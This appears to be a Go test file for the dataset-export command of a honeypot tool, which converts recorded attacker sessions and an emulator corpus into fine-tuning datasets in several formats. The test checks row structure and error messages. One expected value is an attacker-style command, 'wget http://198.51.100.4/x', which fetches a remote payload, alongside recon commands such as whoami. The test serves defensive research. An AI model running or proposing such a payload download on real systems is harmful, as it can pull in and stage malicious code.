package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestDatasetExport(t *testing.T) {
	data := sessionsData(t)
	corpus := filepath.Join(t.TempDir(), "c.txt")
	if err := os.WriteFile(corpus, []byte("# @group one\nuname -a\ncd /tmp\npwd\n# @group two\nwhoami\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"llamafactory", "sharegpt", "alpaca"} {
		t.Run(format, func(t *testing.T) {
			out := filepath.Join(t.TempDir(), "ds")
			var stdout, stderr bytes.Buffer
			code := datasetCommand(context.Background(), []string{"export", "--format", format, "--out", out, "--data-dir", data, "--corpus", corpus}, &stdout, &stderr)
			if code != 0 {
				t.Fatalf("exit %d: %s", code, stderr.String())
			}
			if !strings.Contains(stderr.String(), "[lure_emulator 2/2] corpus:two") || !strings.Contains(stderr.String(), "[lure_sessions 1/1] session:bbbbbbbbbbb1") {
				t.Errorf("progress lines missing:\n%s", stderr.String())
			}
			raw, err := os.ReadFile(filepath.Join(out, "dataset_info.json"))
			if err != nil {
				t.Fatal(err)
			}
			var info map[string]struct {
				FileName   string            `json:"file_name"`
				Formatting string            `json:"formatting"`
				Columns    map[string]string `json:"columns"`
			}
			if err := json.Unmarshal(raw, &info); err != nil {
				t.Fatal(err)
			}
			want := map[string]int{"lure_emulator": 4, "lure_sessions": 4}
			for name, n := range want {
				di, ok := info[name]
				if !ok {
					t.Fatalf("dataset_info.json lacks %s: %s", name, raw)
				}
				if (format == "alpaca") != (di.Formatting == "") {
					t.Errorf("%s: formatting %q for %s", name, di.Formatting, format)
				}
				f, err := os.Open(filepath.Join(out, di.FileName))
				if err != nil {
					t.Fatal(err)
				}
				sc := bufio.NewScanner(f)
				sc.Buffer(nil, 1<<24)
				rows := 0
				var last map[string]any
				for sc.Scan() {
					rows++
					last = map[string]any{}
					if err := json.Unmarshal(sc.Bytes(), &last); err != nil {
						t.Fatalf("%s row %d: %v", name, rows, err)
					}
					// Every column dataset_info.json names is in every row.
					for _, c := range di.Columns {
						if _, ok := last[c]; !ok {
							t.Fatalf("%s row %d lacks column %q: %v", name, rows, c, last)
						}
					}
				}
				f.Close()
				if rows != n {
					t.Errorf("%s: %d rows, want %d", name, rows, n)
				}
				text, _ := json.Marshal(last)
				if name == "lure_sessions" && !strings.Contains(string(text), "wget http://198.51.100.4/x") {
					t.Errorf("the session's last command is not the last record: %s", text)
				}
				if name == "lure_emulator" && !strings.Contains(string(text), "root") {
					t.Errorf("whoami's answer: %s", text)
				}
			}
		})
	}
}

func TestDatasetExportErrors(t *testing.T) {
	for _, c := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"export"}, 2, "--out DIR is required"},
		{[]string{"export", "--out", t.TempDir(), "--format", "csv"}, 2, `unknown dataset format "csv"`},
		{[]string{"export", "--out", t.TempDir(), "--data-dir", filepath.Join(t.TempDir(), "none")}, 1, "does not exist"},
		{[]string{"export", "--out", t.TempDir(), "--corpus", filepath.Join(t.TempDir(), "none.txt")}, 1, "reading the corpus"},
		{[]string{"import"}, 2, `unknown subcommand "import"`},
	} {
		var stdout, stderr bytes.Buffer
		code := datasetCommand(context.Background(), c.args, &stdout, &stderr)
		if code != c.code || !strings.Contains(stderr.String(), c.want) {
			t.Errorf("%v: exit %d %q, want %d %q", c.args, code, stderr.String(), c.code, c.want)
		}
	}
}
